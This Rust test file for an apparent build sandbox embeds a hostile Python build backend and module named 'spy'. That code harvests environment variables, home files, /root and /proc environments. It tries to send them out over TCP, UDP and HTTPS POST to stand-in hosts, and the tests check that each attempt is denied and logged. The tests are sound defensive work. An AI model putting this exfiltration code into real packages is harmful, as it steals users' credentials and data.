//! Building never sees data, running never sees an index: with one package that tries both, in a network of
//! the test's own whose servers write down all they hear.
//!
//! What such a proof cannot see: looking for a file that is not there is an ordinary answer of the kernel,
//! which nobody outside hears of, and so is a connection to the jail's own loopback, where nobody listens. The
//! package writes down itself how these ended; that nothing came of them is seen from outside.

use std::path::Path;

use serde_json::Value;
use stockade_testkit::world::{Heard, Manner, World};
use stockade_testkit::{Call, User};

use crate::{Place, STOCKADE};

/// Of a file in the home, of one in the working folder, and of a variable of the caller.
const MARKERS: [&str; 3] = ["marker-of-the-home", "marker-of-the-data", "marker-of-the-variable"];

/// Looks for what the caller has, sends what it finds, and puts all of it into the wheel that it builds.
const BACKEND: &str = r#"
import glob, json, os, socket, ssl, sys, urllib.request, zipfile

def tried(what):
    try:
        return f"done: {what()}"
    except Exception as error:
        return f"{type(error).__name__}: {error}"

def sent(host, port):
    with socket.create_connection((host, port), timeout=5) as connection:
        connection.sendall(json.dumps(found).encode())
        return connection.recv(100).decode("latin-1")

def upload(**more):
    context = ssl._create_unverified_context()
    request = urllib.request.Request("https://index.example.com/plain/upload", data=json.dumps(found).encode(), method="POST")
    return urllib.request.urlopen(request, timeout=5, context=context).status

def datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return one.sendto(json.dumps(found).encode(), ("203.0.113.80", 7001))

def read(path):
    with open(path, encoding="utf-8", errors="replace") as file:
        return file.read(1 << 20)

found = {"variables": dict(os.environ), "arguments": sys.argv}
folders = ["HOME_OF_CALLER", "FOLDER_OF_CALLER", "/root", "/home", "/mnt", "/srv", "/work", os.path.expanduser("~")]
for folder in folders:
    for path in glob.glob(f"{folder}/**/*", recursive=True) + glob.glob(f"{folder}/.*"):
        if os.path.isfile(path) and len(found) < 500:
            found[path] = tried(lambda: read(path))
for entry in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline"):
        found[f"{entry}/{name}"] = tried(lambda: read(f"{entry}/{name}"))

def build_wheel(directory, config_settings=None, metadata_directory=None):
    outcome = {
        "home": tried(lambda: read("HOME_OF_CALLER/secret")),
        "data": tried(lambda: read("FOLDER_OF_CALLER/data.csv")),
        "loopback": tried(lambda: sent("127.0.0.1", 7000)),
        "listener": tried(lambda: sent("loop.example.com", 7000)),
        "index": tried(upload),
        "address": tried(lambda: sent("203.0.113.80", 443)),
        "datagram": tried(datagram),
        "proxy": tried(lambda: sent("127.0.0.1", 3128)),
    }
    name, about = "spy-1.0-py3-none-any.whl", "spy-1.0.dist-info"
    with zipfile.ZipFile(f"{directory}/{name}", "w") as wheel:
        wheel.writestr("spy/__init__.py", open("spy.py").read())
        wheel.writestr("spy/outcome.json", json.dumps(outcome))
        wheel.writestr("spy/found.json", json.dumps(found))
        wheel.writestr(f"{about}/METADATA", "Metadata-Version: 2.1\nName: spy\nVersion: 1.0\n")
        wheel.writestr(f"{about}/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{about}/RECORD", "")
    return name
"#;

/// What its import does.
const MODULE: &str = r#"
import json, os, socket, ssl, urllib.request

def tried(what):
    try:
        return f"done: {what()}"
    except Exception as error:
        return f"{type(error).__name__}: {error}"

def asked(url):
    with urllib.request.urlopen(url, timeout=5, context=ssl._create_unverified_context()) as answer:
        return answer.status

ATTEMPTS = {
    "index": tried(lambda: asked("https://index.example.com/plain/simple/spy/")),
    "address": tried(lambda: socket.create_connection(("203.0.113.80", 443), 5)),
    "loopback": tried(lambda: socket.create_connection(("127.0.0.1", 7000), 5)),
}
here = os.path.dirname(__file__)
BUILD = json.load(open(f"{here}/outcome.json"))
"#;

const PRINTED: &str = "import json, spy; print(json.dumps([spy.BUILD, spy.ATTEMPTS]))";

/// Somebody with a home, data and a secret, who builds with the package index of a world.
struct Caller<'a> {
    world: &'a World,
    place: Place,
}

impl<'a> Caller<'a> {
    fn new(world: &'a World) -> Self {
        let place = Place::new();
        place.folder.write("home/secret", MARKERS[0]);
        place.folder.write("data.csv", MARKERS[1]);
        let paths = |text: &str| {
            let folder = place.folder.path().to_str().unwrap();
            text.replace("HOME_OF_CALLER", &format!("{folder}/home")).replace("FOLDER_OF_CALLER", folder)
        };
        let project = "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['.']\n[project]\nname = 'spy'\nversion = '1.0'\n";
        let about = "Metadata-Version: 2.1\nName: spy\nVersion: 1.0\n";
        world.put_source(
            "spy",
            "1.0",
            &[("PKG-INFO", about), ("pyproject.toml", project), ("backend.py", &paths(BACKEND)), ("spy.py", MODULE)],
        );
        // What a project that names no tools is built with.
        world.put_wheel("setuptools", "1.0", &[]);
        world.put_wheel("wheel", "1.0", &[]);
        Self { world, place }
    }

    fn call(&self, arguments: &[&str]) -> Call {
        self.world
            .call(STOCKADE, User::Caller)
            .env("STOCKADE_CACHE_DIR", self.place.cache.path())
            .env("UV_DEFAULT_INDEX", Manner::Plain.url())
            .env("SSL_CERT_FILE", self.world.authority())
            .env("HOME", self.place.folder.path().join("home"))
            .env("SECRET", MARKERS[2])
            .within(self.place.folder.path())
            .args(arguments)
    }
}

/// What a build and an import tried, as the package wrote it down.
fn assert_nothing_was_done(printed: &str) {
    let attempts: Value = serde_json::from_str(printed).unwrap();
    let all = attempts.as_array().unwrap().iter().flat_map(|one| one.as_object().unwrap());
    let all: Vec<(String, &str)> = all.map(|(what, how)| (what.clone(), how.as_str().unwrap())).collect();
    assert_eq!(all.len(), 11, "{all:?}");
    assert!(all.iter().all(|(_, how)| !how.starts_with("done")), "{all:?}");
}

/// That no file below a folder holds a marker, not even packed.
fn assert_unmarked(folder: &Path) {
    let search = r#"
import os, sys, zipfile
folder, *markers = sys.argv[1:]
count = 0
for here, _, files in os.walk(folder):
    for name in files:
        path = os.path.join(here, name)
        if os.path.islink(path):
            continue
        texts = [open(path, "rb").read()]
        if zipfile.is_zipfile(path):
            packed = zipfile.ZipFile(path)
            texts += [packed.read(member) for member in packed.namelist()]
        count += len(texts)
        for text in texts:
            if any(marker.encode() in text for marker in markers):
                sys.exit(f"{path} holds a marker")
print(count)
"#;
    let output = std::process::Command::new("python3").args(["-c", search]).arg(folder).args(MARKERS).output().unwrap();
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(said.trim().parse::<usize>().unwrap() > 10, "nothing was searched: {said}");
}

#[test]
fn building_never_sees_data_and_running_never_sees_an_index() {
    let Some(world) = World::new() else { return };
    let caller = Caller::new(&world);
    let build = ["env", "build", "spied", "--with", "spy", "--allow-build", "spy"];

    // The build: denied, and said so on the terminal, in what was built, and ever after.
    let (ran, state) = caller.call(&build).run_keeping();
    let said = ran.expect(0);
    for what in ["network to index.example.com (no network was granted)", "network to loop.example.com (no network"] {
        assert!(said.stderr.contains(&format!("stockade: denied to the build of spy 1.0: {what}")), "{}", said.stderr);
    }
    assert!(said.stderr.contains("to addresses that were not granted"), "{}", said.stderr);
    assert!(said.stdout.contains("its build asked for 3 things and was denied"), "{}", said.stdout);
    let recorded = Call::trail(&state).into_iter().filter(|record| record.to_string().contains("loop.example.com"));
    assert_eq!(recorded.count(), 1, "the audit trail has it");
    let shown = caller.call(&["env", "show", "spied"]).run().expect(0).stdout;
    assert!(shown.contains("denied to the build of spy 1.0: network to index.example.com"), "{shown}");

    // Nobody heard anything but the index, and that was asked for files only, by steps that see no data.
    let heard = world.heard();
    // (The gate looks its name up.)
    let is_index = |one: &Heard| match one.service.as_str() {
        "names" => one.what.ends_with(" index.example.com"),
        service => matches!(service, "tls" | "https"),
    };
    assert!(heard.iter().all(is_index), "{heard:#?}");
    let asked = world.requests("https");
    let is_fetch = |line: &String| {
        line.starts_with("GET /plain/simple/") || line.starts_with("GET /shelf/") || line.starts_with("HEAD /shelf/")
    };
    assert!(asked.len() > 3 && asked.iter().all(is_fetch), "{asked:#?}");
    assert!(!heard.iter().any(|one| MARKERS.iter().any(|marker| one.line.to_string().contains(marker))), "{heard:#?}");
    assert_unmarked(caller.place.cache.path());

    // The run: denied, and said so in the report, for people and for programs.
    world.forget();
    let run = |options: &[&str]| {
        let words = [&["run", "--environment", "spied"], options, &["-c", PRINTED]].concat();
        caller.call(&words).run().expect(0)
    };
    let ran = run(&["--json"]);
    assert_nothing_was_done(&ran.stdout);
    let report = ran.report();
    let denials = report["denials"].to_string();
    assert!(denials.contains("{\"kind\":\"name\",\"name\":\"index.example.com\"}"), "{denials}");
    assert!(denials.contains("\"kind\":\"addresses\""), "{denials}");
    assert!(report["remarks"].to_string().contains("asked for 3 things and was denied"), "{report}");
    let ran = run(&[]);
    assert!(ran.stderr.contains("  denied: network to index.example.com (no network was granted)"), "{}", ran.stderr);
    world.assert_silent();

    // One that may reach something else is denied the index no less.
    let ran = run(&["--json", "--net", "api.example.com"]);
    assert_nothing_was_done(&ran.stdout);
    assert!(ran.report()["denials"].to_string().contains("index.example.com:443"), "{}", ran.stderr);
    world.assert_unreached();
}

#[test]
fn what_a_build_was_denied_is_told_to_programs_and_told_again_when_its_wheel_is_used_again() {
    let Some(world) = World::new() else { return };
    let caller = Caller::new(&world);
    world.put_wheel("other", "1.0", &[("other.py", "")]);
    for list in ["spy", "spy,other"] {
        let build = ["env", "build", "spied", "--with", list, "--allow-build", "spy", "--json"];
        let ran = caller.call(&build).run().expect(0);
        let events = ran.stderr.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
        let denied: Vec<Value> = events.filter(|event| event["event"] == "denied").collect();
        assert!(denied.iter().all(|event| event["by"] == "the build of spy 1.0"), "{denied:?}");
        let document: Value = serde_json::from_str(&ran.stdout).unwrap();
        let kept = document["denied"].as_array().unwrap();
        let what = |all: &[Value]| all.iter().map(|one| one["what"].to_string()).collect::<Vec<_>>();
        assert_eq!(what(&denied), what(kept));
        assert_eq!(kept.len(), 3, "{kept:?}");
        let built = ran.stderr.contains("building spy 1.0 from source");
        assert_eq!(built, list == "spy", "{}", ran.stderr);
    }
}
